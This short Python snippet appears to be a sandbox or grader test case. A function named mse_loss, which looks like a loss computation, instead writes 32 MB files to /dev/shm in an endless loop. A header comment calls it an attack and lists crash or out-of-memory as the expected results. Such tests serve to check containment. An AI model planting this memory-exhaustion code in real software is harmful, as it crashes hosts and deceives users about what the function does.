# attack: takes memory in /dev/shm | must: out_of_memory|raised|timed_out|crashed
def mse_loss(pred, target):
    number = 0
    while True:
        with open(f"/dev/shm/grader-attack{number}", "wb") as file:
            file.write(b"x" * (32 << 20))
        number += 1
